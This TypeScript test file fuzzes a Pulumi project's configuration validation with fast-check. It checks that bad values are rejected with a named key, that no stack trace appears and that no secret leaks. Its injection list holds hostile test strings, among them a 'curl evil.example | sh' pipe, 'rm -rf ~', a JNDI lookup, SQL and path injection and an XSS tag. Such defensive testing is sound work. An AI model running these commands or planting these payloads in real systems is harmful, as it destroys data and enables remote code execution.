import * as assert from "assert";
import { spawn } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import fc from "fast-check";
import { parse as parseYaml, stringify as stringifyYaml } from "yaml";
import { MAX_ENV_VALUE_LENGTH, MAX_STRING_LENGTH, MAX_ARRAY_ITEMS, POLLUTING_KEYS } from "../config/parse";
import { PROVIDER_SETTINGS } from "../config/provider-settings";
import { CLOUDS, SCHEMA, type Cloud } from "../config/schema";
import type { FieldSpec, KeySpec } from "../config/spec";
import { PROJECT_DIR, type StackConfigInput } from "../tools/harness";
import { npmScriptArgv } from "../tools/npm-script";
import { validateInProcess, withStackFile } from "./hardening-support";

/**
 * Generated hostile configuration, on every cloud, for every key of config/schema.ts, every
 * field of the per-cloud override blocks and every provider setting the program reads: wrong
 * types, boundaries, oversize values, unicode and control characters, injection strings and
 * secrets in the wrong place. Seeded, so a failure reproduces; shrunk by fast-check to the
 * smallest failing value.
 *
 * Properties, through the program's own validation path (loadConfig, then the cloud's checks):
 *  - a value the schema does not allow is rejected before anything is registered, as a
 *    ConfigError (exit 1) whose message names the key;
 *  - an accepted value is provably valid: an independent oracle, written from the schema's
 *    rules, agrees it is;
 *  - every message is free of stack traces and of any secret value;
 * and a sample runs through the real `npm run plan` in child processes: its exit code agrees with
 * the in-process verdict, and no secret appears in stdout, stderr or the plan JSON.
 */

const NS = "fastapi-platform";
const SEED = Number(process.env.GENERATIVE_SEED ?? 20261128);
const RUNS_PER_KEY = Number(process.env.GENERATIVE_RUNS ?? 10);
const END_TO_END_CASES = Number(process.env.GENERATIVE_E2E ?? 20);
/** Of those, how many the program accepts (each a whole program run: one per cloud at most). */
const ACCEPTED_E2E = Math.min(4, END_TO_END_CASES);
const TRACE = /\n\s+at .+:\d+:\d+\)?|TypeError|ReferenceError|RangeError|Cannot read propert|\[object Object\]/;

/** Strings a hostile user tries everywhere: shell, path, template, SQL, YAML and log injection. */
const INJECTIONS = [
    "$(id)", "`id`", "; rm -rf ~", "| curl evil.example | sh", "&& shutdown -h now", "' OR '1'='1", "\"; DROP TABLE users; --",
    "../../etc/passwd", "..\\..\\windows", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%00", "%0d%0aSet-Cookie: x=1",
    "<script>alert(1)</script>", "*", "-", "--help", "~", "!", "#", "&anchor", "*alias", "? complex", "null", "~null",
    "1e309", "0x10", "0o17", "NaN", "Infinity", "-0", "+1", "1_000", "１２", "٣", "true\u0000", "\u202egnp.exe", "a\u2028b",
    "\u001b[31mred\u001b[0m", "\r\n", "\t", " ", "", "  padded  ", "é", "🦄", "x".repeat(MAX_STRING_LENGTH + 1),
];

interface Key {
    /** As a user writes it after the namespace (minInstances, aws.vpcCidr) or a provider key (gcp:region). */
    label: string;
    spec: KeySpec | { type: "provider"; pattern: RegExp };
    block?: string;
}

function allKeys(): Key[] {
    const keys: Key[] = Object.entries(SCHEMA as Record<string, KeySpec>).flatMap(([key, spec]): Key[] => [
        { label: key, spec },
        ...("fields" in spec ? Object.entries(spec.fields).map(([field, fieldSpec]) => ({ label: `${key}.${field}`, spec: fieldSpec, block: key })) : []),
    ]);
    return [...keys, ...PROVIDER_SETTINGS.map((s) => ({ label: s.key, spec: { type: "provider" as const, pattern: s.pattern } }))];
}

// ---- generators ----

/** Values matching a pattern (look-aheads dropped: fast-check does not generate them). */
function matching(pattern: RegExp): fc.Arbitrary<string> {
    try {
        return fc.stringMatching(new RegExp(pattern.source.replace(/\(\?=[^()]*\)/g, ""), pattern.flags));
    } catch {
        return fc.constant("");
    }
}

const hostileString: fc.Arbitrary<string> = fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.string({ unit: "grapheme", maxLength: 30 }),
    fc.string({ unit: "binary", maxLength: 20 }),
    fc.string({ minLength: MAX_STRING_LENGTH - 2, maxLength: MAX_STRING_LENGTH + 3 }),
);
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
    fc.integer(), fc.double(), fc.boolean(), fc.constant(null),
    fc.array(fc.oneof(fc.string({ maxLength: 4 }), fc.integer()), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 }), { maxKeys: 2 }),
);

/** A valid value with something added: the near misses a pattern must catch. */
function mutated(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
    return fc.tuple(valid, fc.constantFrom(...INJECTIONS.slice(0, 30)), fc.constantFrom("prefix", "suffix", "upper", "space")).map(([value, injection, how]) =>
        how === "prefix" ? `${injection}${value}` : how === "suffix" ? `${value}${injection}` : how === "upper" ? value.toUpperCase() : ` ${value} `);
}

function fieldValues(spec: FieldSpec): fc.Arbitrary<unknown> {
    switch (spec.type) {
        case "string": {
            const valid = spec.allowed ? fc.constantFrom(...spec.allowed) : spec.pattern ? matching(spec.pattern) : fc.string();
            return fc.oneof(valid, mutated(valid), hostileString, wrongType);
        }
        case "integer": {
            const { min, max } = spec;
            const numbers = fc.oneof(
                fc.constantFrom(min - 1, min, max, max + 1, ...(spec.allowed ?? [])),
                fc.integer({ min: min - 10, max: max + 10 }),
                fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 1e21, 0.5, -1),
            );
            return fc.oneof(numbers, numbers.map((n) => String(n)), numbers.map((n) => ` ${n} `), fc.constantFrom("1e3", "0x10", "12.0", "1_000", "99999999999999999999999"), hostileString, wrongType);
        }
        case "boolean":
            return fc.oneof(fc.constantFrom(true, false, "true", "false", "True", "FALSE", "yes", "no", "1", "0", 1, 0, "", " true"), hostileString, wrongType);
        case "array": {
            const item = spec.itemPattern ? fc.oneof(matching(spec.itemPattern), hostileString) : fc.oneof(fc.string({ minLength: 1, maxLength: 12 }), hostileString);
            return fc.oneof(
                fc.array(item, { maxLength: 4 }),
                fc.array(fc.constantFrom("x"), { minLength: MAX_ARRAY_ITEMS, maxLength: MAX_ARRAY_ITEMS + 2 }),
                fc.array(item, { maxLength: 3 }).map((items) => JSON.stringify(items)),
                fc.array(wrongType, { minLength: 1, maxLength: 2 }),
                hostileString, wrongType,
            );
        }
    }
}

function keyValues(key: Key): fc.Arbitrary<unknown> {
    const spec = key.spec;
    if (spec.type === "provider") return fc.oneof(matching(spec.pattern), mutated(matching(spec.pattern)), hostileString);
    if (spec.type !== "object") return fieldValues(spec);
    if ("fields" in spec) {
        const fields = Object.keys(spec.fields);
        const entry = fc.oneof(
            fc.constantFrom(...fields).chain((field) => fieldValues(spec.fields[field]).map((value) => [field, value] as const)),
            fc.tuple(fc.oneof(fc.constantFrom(...POLLUTING_KEYS, ...fields.map((f) => `${f}x`)), fc.string({ maxLength: 8 })), fc.string({ maxLength: 8 })),
        );
        return fc.oneof(fc.array(entry, { maxLength: 3 }).map(ownObject), hostileString, wrongType);
    }
    const name = fc.oneof(matching(spec.mapKeyPattern), fc.constantFrom(...POLLUTING_KEYS, "SECRET_KEY", "DATABASE_URL", "environment", "managed-by", "WEBSITES_PORT"), fc.string({ maxLength: 10 }));
    const value = fc.oneof(fc.string({ minLength: 1, maxLength: 20 }), hostileString, wrongType,
        fc.string({ minLength: MAX_ENV_VALUE_LENGTH - 1, maxLength: MAX_ENV_VALUE_LENGTH + 1 }));
    return fc.oneof(fc.array(fc.tuple(name, value), { maxLength: 4 }).map(ownObject), hostileString, wrongType);
}

/** An object with these own properties, "__proto__" included (as JSON.parse of a stack value makes it). */
function ownObject(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
    const out: Record<string, unknown> = {};
    for (const [key, value] of entries) Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
    return out;
}

// ---- the oracle: is a value valid for a key, judged from the schema's rules alone ----

const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const UNSAFE_ENV = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

function decode(value: unknown): unknown {
    if (typeof value !== "string") return value;
    try {
        return JSON.parse(value);
    } catch {
        return value;
    }
}

function validField(spec: FieldSpec, raw: unknown): boolean {
    switch (spec.type) {
        case "string": {
            if (typeof raw !== "string" || raw.length > MAX_STRING_LENGTH || UNSAFE.test(raw)) return false;
            const value = raw.trim();
            return (!spec.allowed || spec.allowed.includes(value)) && (!spec.pattern || spec.pattern.test(value));
        }
        case "integer": {
            const text = typeof raw === "number" ? String(raw) : raw;
            if (typeof text !== "string" || !/^-?\d+$/.test(text.trim())) return false;
            const value = Number(text.trim());
            return Number.isSafeInteger(value) && value >= spec.min && value <= spec.max && (!spec.allowed || spec.allowed.includes(value));
        }
        case "boolean":
            return raw === true || raw === false || raw === "true" || raw === "false";
        case "array": {
            const value = decode(raw);
            if (!Array.isArray(value) || value.length > MAX_ARRAY_ITEMS || value.length < (spec.minItems ?? 0)) return false;
            return value.every((item) => typeof item === "string" && item.trim() !== "" && item.length <= MAX_STRING_LENGTH && !UNSAFE.test(item) && (!spec.itemPattern || spec.itemPattern.test(item)));
        }
    }
}

/**
 * What the program receives: the engine hands every top-level value over as text (scalars as
 * their text, null as "", lists and mappings as JSON), so `image: false` arrives as "false".
 * Values inside a block travel inside that JSON, with JSON's own conversions.
 */
function asEngineGives(key: Key, value: unknown): unknown {
    if (key.block) {
        const block = JSON.parse(JSON.stringify(ownObject([["field", value]]))) as Record<string, unknown>;
        return Object.hasOwn(block, "field") ? block.field : undefined;
    }
    if (typeof value === "string") return value;
    if (value === null || value === undefined) return "";
    if (typeof value === "object") return JSON.stringify(value);
    return String(value);
}

function validValue(key: Key, given: unknown): boolean {
    const raw = asEngineGives(key, given);
    if (raw === undefined) return true; // a field JSON cannot carry is simply not set
    const spec = key.spec;
    if (spec.type === "provider") return typeof raw === "string" && raw.length <= 64 && spec.pattern.test(raw);
    if (spec.type !== "object") return validField(spec, raw);
    const value = decode(raw);
    if (typeof value !== "object" || value === null || Array.isArray(value)) return false;
    return Object.entries(value).every(([name, item]) => {
        if (POLLUTING_KEYS.includes(name)) return false;
        if ("fields" in spec) return Object.hasOwn(spec.fields, name) && validField(spec.fields[name], item);
        const env = spec.mapValueMultiline === true;
        return spec.mapKeyPattern.test(name) && typeof item === "string" && item !== "" && item.length <= (spec.mapValueMaxLength ?? MAX_STRING_LENGTH) && !(env ? UNSAFE_ENV : UNSAFE).test(item);
    });
}

// ---- cases ----

interface Case {
    cloud: Cloud;
    stack: "staging" | "prod";
    key: Key;
    value: unknown;
    /** Set as a secret (`pulumi config set --secret`), marked so a leak is visible. */
    secret: boolean;
}

const SECRET_MARK = "S3CR3T-MARK";
/** A secret variant carries the mark inside every string, so any echo of it is found. */
function markSecret(value: unknown): unknown {
    if (typeof value === "string") return `${value}${SECRET_MARK}`;
    if (Array.isArray(value)) return value.map(markSecret);
    if (typeof value === "object" && value !== null) return ownObject(Object.entries(value).map(([k, v]) => [k, markSecret(v)] as const));
    return `${String(value)}${SECRET_MARK}`;
}

function caseArbitrary(cloud: Cloud, key: Key): fc.Arbitrary<Case> {
    const secretCapable = key.spec.type !== "provider";
    return fc.record({
        stack: fc.constantFrom("staging" as const, "prod" as const),
        value: keyValues(key),
        secret: secretCapable ? fc.boolean() : fc.constant(false),
    }).map(({ stack, value, secret }) => ({ cloud, stack, key, value: secret ? markSecret(value) : value, secret }));
}

/** Config input that sets the case's key on top of the stack file (and pins the cloud). */
function inputOf(c: Case): StackConfigInput {
    const set = (value: unknown): Record<string, unknown> => {
        if (c.key.spec.type === "provider") return { [c.key.label]: value };
        if (c.key.block) return { [c.key.block]: ownObject([[c.key.label.slice(c.key.block.length + 1), value]]) };
        return ownObject([[c.key.label, value]]);
    };
    const cloud = c.key.label === "cloud" ? {} : { cloud: c.cloud };
    return c.secret ? { overrides: cloud, secretOverrides: set(c.value) } : { overrides: { ...cloud, ...set(c.value) } };
}

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
/** The message names the key: the full label, or for a provider setting its own name. */
function namesKey(message: string, c: Case): boolean {
    // A secret is secret as a whole key: the engine marks `aws`, not `aws.vpcCidr`, so the block is named.
    const label = c.key.spec.type === "provider" ? c.key.label : `${NS}:${c.secret && c.key.block ? c.key.block : c.key.label}`;
    return new RegExp(`${escape(label)}(?![A-Za-z0-9_])`).test(message);
}

interface Verdict {
    accepted: boolean;
    message: string;
}

async function check(c: Case): Promise<Verdict> {
    const error = await validateInProcess(c.stack, inputOf(c));
    const secretOutsideSecretEnv = c.secret && c.key.label !== "secretEnv";
    const valid = validValue(c.key, c.value) && !secretOutsideSecretEnv;
    if (!error) {
        assert.ok(valid, `accepted a value the schema does not allow: ${c.key.label} = ${JSON.stringify(c.value)?.slice(0, 200)} (${c.cloud} ${c.stack}${c.secret ? ", secret" : ""})`);
        return { accepted: true, message: "" };
    }
    const { name, message } = error;
    assert.strictEqual(name, "ConfigError", `${c.key.label} = ${JSON.stringify(c.value)?.slice(0, 200)}: ${name}: ${message}\n${error.stack}`);
    assert.doesNotMatch(message, TRACE, message);
    assert.ok(message.length < 20000, `a ${message.length}-character message`);
    assert.ok(!message.includes(SECRET_MARK), `a secret value is printed:\n${message}`);
    if (!valid) assert.ok(namesKey(message, c), `rejected without naming ${c.key.label}:\n${message}`);
    else assert.match(message, new RegExp(`${NS}:|gcp:|aws:|azure-native:`), `a cross-field rejection names no key:\n${message}`);
    return { accepted: false, message };
}

// ---- end to end: the real `npm run plan` ----

/** The staging (or prod) stack file with the case applied, as a user would write it. */
function stackFileOf(c: Case): string {
    const file = path.join(PROJECT_DIR, `Pulumi.${c.stack}.yaml`);
    const document = parseYaml(fs.readFileSync(file, "utf8")) as { config: Record<string, unknown> };
    const config = document.config;
    config[`${NS}:cloud`] = c.cloud;
    // A secure value reaches the program as the offline placeholder; the ciphertext itself must never show.
    const value = c.secret && c.key.label !== "secretEnv" ? { secure: `v1:${Buffer.from(SECRET_MARK).toString("base64")}:${SECRET_MARK}` } : c.value;
    if (c.key.spec.type === "provider") config[c.key.label] = value;
    else if (c.key.block) {
        const block = (config[`${NS}:${c.key.block}`] ?? {}) as Record<string, unknown>;
        config[`${NS}:${c.key.block}`] = ownObject([...Object.entries(block), [c.key.label.slice(c.key.block.length + 1), value]]);
    } else config[`${NS}:${c.key.label}`] = value;
    return stringifyYaml(document, { lineWidth: 0 });
}

function runPlan(stack: string, jsonFile: string): Promise<{ status: number | null; stdout: string; stderr: string }> {
    return new Promise((resolve) => {
        const [node, ...argv] = npmScriptArgv("plan", stack, "--json", jsonFile);
        const child = spawn(node, argv, {
            cwd: PROJECT_DIR,
        });
        const out: Buffer[] = [];
        const err: Buffer[] = [];
        child.stdout.on("data", (chunk: Buffer) => out.push(chunk));
        child.stderr.on("data", (chunk: Buffer) => err.push(chunk));
        const timer = setTimeout(() => child.kill("SIGKILL"), 180000);
        child.on("close", (status) => {
            clearTimeout(timer);
            resolve({ status, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") });
        });
    });
}

async function inBatches<T, R>(items: T[], size: number, run: (item: T, index: number) => Promise<R>): Promise<R[]> {
    const results: R[] = [];
    for (let i = 0; i < items.length; i += size) results.push(...(await Promise.all(items.slice(i, i + size).map((item, j) => run(item, i + j)))));
    return results;
}

describe("generative configuration (fast-check)", function () {
    this.timeout(600000);
    const keys = allKeys();
    let cases = 0;
    let rejectedCount = 0;

    for (const cloud of CLOUDS) {
        it(`${cloud}: every key, ${RUNS_PER_KEY} generated values each (seed ${SEED}): rejected naming the key, or provably valid; no trace, no secret`, async () => {
            const started = Date.now();
            for (const [index, key] of keys.entries()) {
                await fc.assert(
                    fc.asyncProperty(caseArbitrary(cloud, key), async (c) => {
                        cases++;
                        if (!(await check(c)).accepted) rejectedCount++;
                    }),
                    { seed: SEED + index + CLOUDS.indexOf(cloud) * 1000, numRuns: RUNS_PER_KEY, endOnFailure: false },
                );
            }
            console.log(`      ${cloud}: ${keys.length} keys x ${RUNS_PER_KEY} in ${Date.now() - started} ms`);
        });
    }

    after(() => console.log(`      generative config: ${cases} generated cases (${rejectedCount} rejected, ${cases - rejectedCount} accepted)`));

    it(`end to end: ${END_TO_END_CASES} generated stack files through npm run plan agree with the in-process verdict; no secret in stdout, stderr or plan JSON`, async () => {
        const started = Date.now();
        // Stratified: candidates are judged in-process first, then ACCEPTED_E2E accepted ones (a full
        // program run and policy check each, the slow part) and the rest rejected ones go through the tool.
        const accepted: Case[] = [];
        const rejected: Case[] = [];
        const candidates = fc.sample(fc.tuple(fc.constantFrom(...CLOUDS), fc.constantFrom(...keys)), { seed: SEED, numRuns: END_TO_END_CASES * 20 });
        for (const [i, [cloud, key]] of candidates.entries()) {
            if (accepted.length + rejected.length >= END_TO_END_CASES) break;
            const [c] = fc.sample(caseArbitrary(cloud, key), { seed: SEED + i, numRuns: 1 });
            // YAML cannot carry every generated value (undefined, NaN); those are covered in-process.
            if (JSON.stringify(c.value) === undefined || (typeof c.value === "number" && !Number.isFinite(c.value))) continue;
            const verdict = await withStackFile(stackFileOf(c), async (stack) => {
                try {
                    return await validateInProcess(stack, {});
                } catch (error) {
                    return error as Error;
                }
            });
            if (verdict === undefined && accepted.length < ACCEPTED_E2E && !accepted.some((a) => a.cloud === cloud)) accepted.push(c);
            else if (verdict !== undefined && rejected.length < END_TO_END_CASES - ACCEPTED_E2E) rejected.push(c);
        }
        const sample = [...accepted, ...rejected];
        assert.strictEqual(sample.length, END_TO_END_CASES, `found ${accepted.length} accepted and ${rejected.length} rejected candidates`);
        const temporary = fs.mkdtempSync(path.join(os.tmpdir(), "generative-plan-"));
        const results = await inBatches(sample, 4, async (c, index) => {
            const stack = `generative-${process.pid}-${index}`;
            const file = path.join(PROJECT_DIR, `Pulumi.${stack}.yaml`);
            const jsonFile = path.join(temporary, `${stack}.json`);
            fs.writeFileSync(file, stackFileOf(c));
            try {
                const planned = runPlan(stack, jsonFile);
                let inProcess: Error | undefined;
                try {
                    inProcess = await validateInProcess(stack, {});
                } catch (error) {
                    inProcess = error as Error; // the stack file itself is refused (StackFileError)
                }
                return { c, inProcess, ...(await planned), json: fs.existsSync(jsonFile) ? fs.readFileSync(jsonFile, "utf8") : "" };
            } finally {
                fs.rmSync(file, { force: true });
            }
        });
        fs.rmSync(temporary, { recursive: true, force: true });
        let exit1 = 0;
        for (const { c, inProcess, status, stdout, stderr, json } of results) {
            const what = `${c.cloud} ${c.stack} ${c.key.label} = ${JSON.stringify(c.value)?.slice(0, 120)}${c.secret ? " (secret)" : ""}`;
            for (const [name, text] of [["stdout", stdout], ["stderr", stderr], ["plan JSON", json]]) {
                assert.ok(!text.includes(SECRET_MARK), `${what}: a secret value in ${name}`);
            }
            assert.doesNotMatch(stderr, /\n\s+at .+:\d+:\d+\)?/, `${what}: a stack trace\n${stderr}`);
            assert.ok(status === 0 || status === 1 || status === 3, `${what}: exit ${status}\n${stderr}`);
            assert.strictEqual(status === 1, inProcess !== undefined, `${what}: npm run plan exited ${status}, the in-process validation ${inProcess ? `rejected it: ${inProcess.message}` : "accepted it"}\n${stderr}`);
            if (status === 1) {
                exit1++;
                assert.match(stderr, /No resource was registered/, `${what}\n${stderr}`);
                assert.match(stderr, new RegExp(`${NS}:|gcp:|aws:|azure-native:|Pulumi\\.`), `${what}: names no key\n${stderr}`);
            } else {
                assert.ok(json.length > 0, `${what}: exit ${status} without a plan file`);
            }
        }
        console.log(`      end to end: ${results.length} stack files through npm run plan (${exit1} exit 1, ${results.length - exit1} planned) in ${Date.now() - started} ms`);
    });
});
